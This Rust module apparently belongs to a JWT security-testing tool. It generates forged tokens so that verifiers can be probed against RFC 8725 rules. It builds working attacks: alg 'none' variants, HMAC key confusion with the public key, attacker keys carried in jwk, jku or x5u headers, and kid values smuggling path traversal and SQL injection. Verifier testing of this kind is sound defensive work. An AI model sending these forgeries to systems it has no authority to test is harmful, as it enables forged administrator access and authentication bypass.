//! Forgeries of a JWT: the attacks every verifier must refuse, made from a valid token. The
//! tamper lab makes eight of them in the browser ([`tamper_lab`]); `tokenflow probe` sends the
//! whole [`catalogue`] to any protected URL. Each names the rule it tests (RFC 8725, the JWT
//! best current practice, unless said otherwise).
//!
//! Without the issuer's key, a forgery can only break the signature or ask the verifier to
//! trust something it should not (no algorithm, an HMAC keyed with the public key, a key the
//! token names itself). With the issuer's key, the signature holds and the claims
//! or header do not: what is left to test is whether the verifier reads them.

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use ed25519_dalek::{Signer as _, SigningKey};
use hmac::{Hmac, Mac};
use serde_json::{Value, json};
use sha2::{Digest, Sha256};

use crate::inspect::{InspectError, decode};

/// One attack on a token.
#[derive(Debug, Clone, PartialEq)]
pub struct Forgery {
    pub id: &'static str,
    pub title: &'static str,
    pub attack: &'static str,
    /// The rule a verifier that accepts it breaks.
    pub reference: &'static str,
    pub token: String,
}

fn b64(bytes: &[u8]) -> String {
    URL_SAFE_NO_PAD.encode(bytes)
}

fn join(header: &Value, claims: &Value, signature: &str) -> String {
    format!("{}.{}.{signature}", b64(header.to_string().as_bytes()), b64(claims.to_string().as_bytes()))
}

/// `header.claims` (claims as JSON text, taken as given) signed by `key`.
fn signed_text(header: &Value, claims: &str, key: &SigningKey) -> String {
    let input = format!("{}.{}", b64(header.to_string().as_bytes()), b64(claims.as_bytes()));
    format!("{input}.{}", b64(&key.sign(input.as_bytes()).to_bytes()))
}

fn signed(header: &Value, claims: &Value, key: &SigningKey) -> String {
    signed_text(header, &claims.to_string(), key)
}

fn hmac_signed(header: &Value, claims: &Value, secret: &[u8]) -> String {
    let input = format!("{}.{}", b64(header.to_string().as_bytes()), b64(claims.to_string().as_bytes()));
    // HMAC takes a key of any length, the empty one included.
    let signature = Hmac::<Sha256>::new_from_slice(secret)
        .map(|mut mac| {
            mac.update(input.as_bytes());
            b64(&mac.finalize().into_bytes())
        })
        .unwrap_or_default();
    format!("{input}.{signature}")
}

/// A key no issuer trusts, the same everywhere (derived from a fixed phrase, so making
/// forgeries needs no randomness): what an attacker signs with.
pub fn attacker_key() -> SigningKey {
    SigningKey::from_bytes(&Sha256::digest(b"tokenflow tamper lab: an attacker's own key").into())
}

/// The attacker's key as a public JWK (what an embedded `jwk` or a `jku` set carries).
pub fn attacker_jwk() -> Value {
    let x = b64(attacker_key().verifying_key().as_bytes());
    json!({"kty": "OKP", "crv": "Ed25519", "x": x, "kid": crate::jwk::thumbprint(&x), "alg": "EdDSA", "use": "sig"})
}

/// The token taken apart, checked to be two objects (editing a member of anything else would
/// panic).
struct Parts {
    header: Value,
    claims: Value,
    signature: String,
}

impl Parts {
    fn of(token: &str) -> Result<Parts, InspectError> {
        let d = decode(token)?;
        if !d.header.is_object() || !d.claims.is_object() {
            return Err(InspectError::NotObjects);
        }
        Ok(Parts { header: d.header, claims: d.claims, signature: d.signature })
    }

    fn claims_with(&self, name: &str, value: Value) -> Value {
        let mut claims = self.claims.clone();
        claims[name] = value;
        claims
    }

    fn header_with(&self, name: &str, value: Value) -> Value {
        let mut header = self.header.clone();
        header[name] = value;
        header
    }
}

/// The tamper lab's eight: what a browser can forge from its own token. `public_x` is the
/// issuer's public key (from the JWKS), which the HS256 confusion uses as an HMAC secret.
///
/// # Errors
/// When `token` does not decode, or its parts are not objects.
pub fn tamper_lab(token: &str, public_x: &str, now: i64) -> Result<Vec<Forgery>, InspectError> {
    let p = Parts::of(token)?;
    Ok(vec![
        Forgery {
            id: "role-admin",
            title: "Role changed to admin",
            attack: "Edit the payload's role claim to \"admin\" and keep the original signature.",
            reference: "RFC 8725 §2.1, §3.1: the signature covers the payload",
            token: join(&p.header, &p.claims_with("role", json!("admin")), &p.signature),
        },
        Forgery {
            id: "alg-none",
            title: "alg: none",
            attack: "Declare the token unsigned (RFC 7519's \"none\") and drop the signature.",
            reference: "RFC 8725 §2.1, §3.1: never accept \"none\"",
            token: join(&p.header_with("alg", json!("none")), &p.claims, ""),
        },
        Forgery {
            id: "hs256-public-key",
            title: "HS256 keyed with the public key",
            attack: "Switch alg to HS256 and sign with the public key as an HMAC secret, hoping the server feeds its public key to HMAC.",
            reference: "RFC 8725 §2.1, §3.1: the key decides the algorithm",
            token: hmac_signed(&p.header_with("alg", json!("HS256")), &p.claims, public_x.as_bytes()),
        },
        Forgery {
            id: "expired",
            title: "Expiry pushed into the past",
            attack: "Set exp an hour ago, keeping the signature: the server must check exp, but first the signature.",
            reference: "RFC 8725 §2.1: the signature first",
            token: join(&p.header, &p.claims_with("exp", json!(now - 3600)), &p.signature),
        },
        Forgery {
            id: "wrong-audience",
            title: "Wrong audience",
            attack: "Set aud to another service's name, keeping the signature.",
            reference: "RFC 8725 §2.1: the signature first",
            token: join(&p.header, &p.claims_with("aud", json!("another-service")), &p.signature),
        },
        Forgery {
            id: "unknown-kid",
            title: "Unknown kid",
            attack: "Sign with an attacker's key and point kid at it, a key the server does not have, hoping it fetches or trusts one.",
            reference: "RFC 8725 §3.10: do not trust received claims",
            token: signed(&p.header_with("kid", json!("attacker-key-1")), &p.claims, &attacker_key()),
        },
        Forgery {
            id: "signature-stripped",
            title: "Signature stripped",
            attack: "Send header and payload with an empty signature.",
            reference: "RFC 8725 §2.1: insufficient signature validation",
            token: join(&p.header, &p.claims, ""),
        },
        Forgery {
            id: "other-key",
            title: "Signed by another key",
            attack: "Sign the unchanged header and payload with an attacker's own Ed25519 key under the server's kid.",
            reference: "RFC 8725 §2.1: only the issuer's keys",
            token: signed(&p.header, &p.claims, &attacker_key()),
        },
    ])
}

/// What `tokenflow probe` sends without the issuer's key: the tamper lab's eight, the other
/// spellings of "none", more HMAC confusions, kid injection, keys the token names itself (an
/// embedded `jwk`; `jku` and `x5u` pointing at `attacker_keys`, a URL serving
/// [`attacker_jwk`]). With the key, [`issuer_signed`] adds the rest.
///
/// # Errors
/// When `token` does not decode, or its parts are not objects.
pub fn catalogue(token: &str, public_x: &str, now: i64, attacker_keys: &str) -> Result<Vec<Forgery>, InspectError> {
    let p = Parts::of(token)?;
    let mut all = tamper_lab(token, public_x, now)?;
    let attacker = attacker_key();
    let attacker_kid = attacker_jwk()["kid"].clone();
    let admin = p.claims_with("role", json!("admin"));
    for (id, alg) in [("alg-none-capitalised", "None"), ("alg-none-upper", "NONE"), ("alg-none-mixed", "nOnE")] {
        all.push(Forgery {
            id,
            title: "alg: none, spelt otherwise",
            attack: "\"none\" in another case, for a verifier that compares case-insensitively or blocks only one spelling.",
            reference: "RFC 8725 §3.1: never accept \"none\"",
            token: join(&p.header_with("alg", json!(alg)), &admin, ""),
        });
    }
    let mut embedded = p.header_with("jwk", attacker_jwk());
    embedded["kid"] = attacker_kid.clone();
    let mut jku = p.header_with("jku", json!(attacker_keys));
    jku["kid"] = attacker_kid.clone();
    let mut x5u = p.header_with("x5u", json!(attacker_keys));
    x5u["kid"] = attacker_kid;
    all.extend([
        Forgery {
            id: "embedded-jwk",
            title: "Key embedded in the header",
            attack: "Sign with the attacker's key and carry it in the header's jwk, for a verifier that trusts the key a token brings.",
            reference: "RFC 8725 §3.10: do not trust received claims (RFC 7515 §4.1.3)",
            token: signed(&embedded, &admin, &attacker),
        },
        Forgery {
            id: "jku",
            title: "jku pointing at the attacker's keys",
            attack: "Sign with the attacker's key and point jku at a JWK set that holds it.",
            reference: "RFC 8725 §3.10: do not trust received claims (RFC 7515 §4.1.2)",
            token: signed(&jku, &admin, &attacker),
        },
        Forgery {
            id: "x5u",
            title: "x5u pointing at the attacker",
            attack: "Sign with the attacker's key and point x5u at a URL of the attacker's.",
            reference: "RFC 8725 §3.10: do not trust received claims (RFC 7515 §4.1.5)",
            token: signed(&x5u, &admin, &attacker),
        },
        Forgery {
            id: "kid-path-traversal",
            title: "kid as a path to an empty file",
            attack: "kid \"../../../../../../dev/null\" and an HMAC with the empty key, for a verifier that reads keys from files named by kid.",
            reference: "RFC 8725 §3.10: kid is input (SQL, path, command injection)",
            token: hmac_signed(
                &json!({"alg": "HS256", "typ": p.header["typ"], "kid": "../../../../../../dev/null"}),
                &admin,
                b"",
            ),
        },
        Forgery {
            id: "kid-sql-injection",
            title: "kid as SQL",
            attack: "kid \"x' UNION SELECT 'secret\" and an HMAC keyed \"secret\", for a verifier that looks keys up with string-built SQL.",
            reference: "RFC 8725 §3.10: kid is input (SQL, path, command injection)",
            token: hmac_signed(
                &json!({"alg": "HS256", "typ": p.header["typ"], "kid": "x' UNION SELECT 'secret"}),
                &admin,
                b"secret",
            ),
        },
    ]);
    let public_bytes = URL_SAFE_NO_PAD.decode(public_x).unwrap_or_default();
    all.extend([
        Forgery {
            id: "hs256-public-key-bytes",
            title: "HS256 keyed with the public key's bytes",
            attack: "HS256 with the raw 32 bytes of the public key as the secret (the other way a confused verifier may feed it to HMAC).",
            reference: "RFC 8725 §2.1, §3.1: the key decides the algorithm",
            token: hmac_signed(&p.header_with("alg", json!("HS256")), &admin, &public_bytes),
        },
        Forgery {
            id: "hs512-public-key",
            title: "HS512 keyed with the public key",
            attack: "HS512 with the public key (base64url text) as the secret.",
            reference: "RFC 8725 §2.1, §3.1: the key decides the algorithm",
            token: {
                let header = p.header_with("alg", json!("HS512"));
                let input = format!("{}.{}", b64(header.to_string().as_bytes()), b64(admin.to_string().as_bytes()));
                let signature = Hmac::<sha2::Sha512>::new_from_slice(public_x.as_bytes())
                    .map(|mut mac| {
                        mac.update(input.as_bytes());
                        b64(&mac.finalize().into_bytes())
                    })
                    .unwrap_or_default();
                format!("{input}.{signature}")
            },
        },
    ]);
    Ok(all)
}

/// The id of the control of [`issuer_signed`], always first: the valid token's own header and
/// claims, signed again. A verifier must accept it; if it does not, the key given is not the
/// issuer's and the other signed forgeries prove nothing.
pub const RESIGNED_CONTROL: &str = "resigned-control";

/// Forgeries whose signature holds, made with the issuer's own Ed25519 key (a test issuer's):
/// each breaks one rule of the claims or the header.
///
/// # Errors
/// When `token` does not decode, or its parts are not objects.
pub fn issuer_signed(token: &str, now: i64, key: &SigningKey) -> Result<Vec<Forgery>, InspectError> {
    let p = Parts::of(token)?;
    let with = |name: &str, value: Value| signed(&p.header, &p.claims_with(name, value), key);
    let header_with = |name: &str, value: Value| signed(&p.header_with(name, value), &p.claims, key);
    let without = |name: &str| {
        let mut claims = p.claims.clone();
        if let Some(object) = claims.as_object_mut() {
            object.remove(name);
        }
        signed(&p.header, &claims, key)
    };
    // The claims as text with `role` given twice, "user" first and "admin" last.
    let duplicate = {
        let mut claims = p.claims.clone();
        if let Some(object) = claims.as_object_mut() {
            object.remove("role");
        }
        let text = claims.to_string();
        let body = text.trim_end_matches('}');
        let comma = if body.ends_with('{') { "" } else { "," };
        signed_text(&p.header, &format!(r#"{body}{comma}"role":"user","role":"admin"}}"#), key)
    };
    let item = |id, title, attack, reference, token| Forgery { id, title, attack, reference, token };
    Ok(vec![
        item(
            RESIGNED_CONTROL,
            "Control: the token signed again",
            "Not an attack: the valid token's header and claims signed again with the given key, which a verifier must accept.",
            "(control)",
            signed(&p.header, &p.claims, key),
        ),
        item(
            "expired-signed",
            "Expired",
            "exp an hour ago, validly signed.",
            "RFC 7519 §4.1.4",
            with("exp", json!(now - 3600)),
        ),
        item(
            "no-exp",
            "No exp at all",
            "The exp claim removed, validly signed: a token that never expires.",
            "RFC 9068 §2.2: exp is required",
            without("exp"),
        ),
        item(
            "exp-as-string",
            "exp as a string",
            "exp as the string \"9999999999\", for a verifier that coerces types.",
            "RFC 7519 §2: NumericDate is a number",
            with("exp", json!("9999999999")),
        ),
        item(
            "not-yet-valid",
            "Not yet valid",
            "nbf an hour ahead, validly signed.",
            "RFC 7519 §4.1.5",
            with("nbf", json!(now + 3600)),
        ),
        item(
            "issued-in-the-future",
            "Issued in the future",
            "iat an hour ahead, validly signed.",
            "RFC 7519 §4.1.6, RFC 9068 §4",
            with("iat", json!(now + 3600)),
        ),
        item(
            "wrong-issuer",
            "Wrong issuer",
            "iss of another issuer, validly signed.",
            "RFC 8725 §3.8: validate the issuer",
            with("iss", json!("https://attacker.example")),
        ),
        item(
            "wrong-audience-signed",
            "Wrong audience",
            "aud of another service, validly signed.",
            "RFC 8725 §3.9: validate the audience",
            with("aud", json!("another-service")),
        ),
        item(
            "audience-list-of-others",
            "Audience list without us",
            "aud as a list of other services, validly signed.",
            "RFC 8725 §3.9: validate the audience",
            with("aud", json!(["another-service", "a-third"])),
        ),
        item(
            "wrong-typ",
            "typ JWT",
            "typ \"JWT\" instead of at+jwt: an ID token or other JWT passed off as an access token.",
            "RFC 8725 §3.11 explicit typing, RFC 9068 §4",
            header_with("typ", json!("JWT")),
        ),
        item(
            "unknown-crit",
            "Unknown critical extension",
            "crit naming an extension nobody implements, validly signed.",
            "RFC 7515 §4.1.11: reject what crit names and you do not understand",
            signed(
                &{
                    let mut h = p.header_with("crit", json!(["tokenflow-probe"]));
                    h["tokenflow-probe"] = json!(true);
                    h
                },
                &p.claims,
                key,
            ),
        ),
        item(
            "duplicate-role",
            "role given twice",
            "\"role\":\"user\" then \"role\":\"admin\" in one claim set, validly signed: parsers disagree on which counts.",
            "RFC 7519 §4, RFC 8259 §4: names must be unique",
            duplicate,
        ),
        item(
            "sub-as-number",
            "sub as a number",
            "sub as the number 0, validly signed, for a verifier that coerces types.",
            "RFC 7519 §4.1.2: a string",
            with("sub", json!(0)),
        ),
    ])
}

#[cfg(test)]
mod tests;
